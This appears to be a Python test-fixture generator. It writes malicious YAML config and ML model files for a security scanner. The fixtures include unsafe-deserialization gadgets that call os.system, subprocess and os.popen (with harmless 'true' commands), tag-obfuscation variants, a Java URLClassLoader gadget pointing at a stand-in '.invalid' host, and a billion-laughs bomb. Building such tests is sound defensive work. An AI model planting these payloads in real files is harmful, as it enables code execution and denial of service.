"""YAML that makes objects, or grows."""

from ..recipe import add

LINES = {
    "apply": "model: !!python/object/apply:os.system ['true {w}']",
    "new": "model: !!python/object/new:subprocess.Popen [['true', '{w}']]",
    "apply-mapping": "model: !!python/object/apply:subprocess.check_output\n  args: [true]\n  kwds: {{shell: true}}",
    "name": "loss: !!python/name:os.system",
    "module": "use: !!python/module:os",
    "object": "model: !!python/object:__main__.{w} {{}}",
    "verbatim": "model: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
    "handle": "%TAG !p! tag:yaml.org,2002:python/\n---\nmodel: !p!object/apply:os.system ['true']",
    "percent": "model: !!python%2Fobject%2Fapply:os.system ['true']",
    "java": "model: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://{w}.invalid/']]]]",
    "ruby": "model: !ruby/object:Gem::Installer\n  i: x",
    "in-a-list": "layers:\n  - dense\n  - {{a: [1, 2, !!python/object/apply:os.system ['true']]}}",
    "second-document": "a: 1\n---\nb: !!python/object/apply:os.popen ['true']",
    "key": "? !!python/object/apply:os.system ['true']\n: value",
}
for label, line in LINES.items():
    add(f"yaml/{label}", "threat", lambda r, line=line: {r.choice(["config", "model", "MLmodel", r.word()]) + r.choice([".yaml", ".yml"]): ("name: x\n" * (label != "handle") + line.format(w=r.word()) + "\n").encode() if not line.startswith("%") else (line.format(w=r.word()) + "\n").encode()})


def _laughs(r):
    lines = ["a0: &a0 [ha, ha, ha]"] + [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 12)]
    return {r.word() + ".yaml": ("\n".join(lines) + "\n").encode()}


add("yaml/billion-laughs", "threat", _laughs)
add("yaml/without-a-name", "threat", lambda r: {"MLmodel": f"artifact_path: model\nflavors:\n  python_function:\n    model: !!python/object/apply:os.system ['true {r.word()}']\n".encode()})
